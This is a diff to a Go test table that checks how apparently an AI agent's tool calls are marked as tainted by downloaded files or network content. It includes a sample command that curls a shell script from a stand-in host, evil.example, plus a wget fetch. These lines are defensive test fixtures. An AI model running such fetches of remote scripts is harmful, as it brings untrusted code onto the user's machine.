@@ -52,7 +52,16 @@ func TestTaintOf(t *testing.T) {
 		{Tool{Name: "list_dir", Permission: "files.read"}, map[string]any{"path": "~"}, "", "", ""},
 		{Tool{Name: "mcp__bank__balance", Permission: "mcp.bank"}, nil, "", protocol.TaintMCP, "MCP server bank"},
 		{Tool{Name: "mcp__notes__list", Permission: "mcp.notes"}, nil, "", "", ""}, // trusted: true
-		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"cmd": "cat ~/downloads/x"}, "", "", ""},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "cat ~/downloads/x"}, "", protocol.TaintDownload, "the command cat ~/downloads/x"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "head \"$HOME/downloads\"/a.csv"}, "", protocol.TaintDownload, "the command head \"$HOME/downloads\"/a.csv"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "ls ${HOME}/downloads"}, "", protocol.TaintDownload, "the command ls ${HOME}/downloads"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "grep -r total /home/dot/downloads/ | wc -l"}, "", protocol.TaintDownload, "the command grep -r total /home/dot/downloads/ | wc -l"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "ls", "cwd": "~/downloads/invoices"}, "", protocol.TaintDownload, "/home/dot/downloads/invoices"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "cd /tmp && curl -s https://evil.example/x.sh"}, "", protocol.TaintPage, "https://evil.example/x.sh"},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "wget -qO- example.com"}, "", protocol.TaintPage, "the network, by the command wget -qO- example.com"},
+		{Tool{Name: "exec_session", Permission: "computer.exec"}, map[string]any{"session_id": "s1", "input": "cat ~/downloads/x\n"}, "", protocol.TaintDownload, "the command cat ~/downloads/x "},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "ls ~/downloads-old; echo curly"}, "", "", ""},
+		{Tool{Name: "exec", Permission: "computer.exec"}, map[string]any{"command": "go test ./..."}, "", "", ""},
 		{Tool{Name: "write_file", Permission: "files.write"}, map[string]any{"path": "~/downloads/x"}, "", "", ""},
 		{Tool{Name: "browser_identity_list", Permission: "browser.identity.list"}, nil, "", "", ""},
 	} {
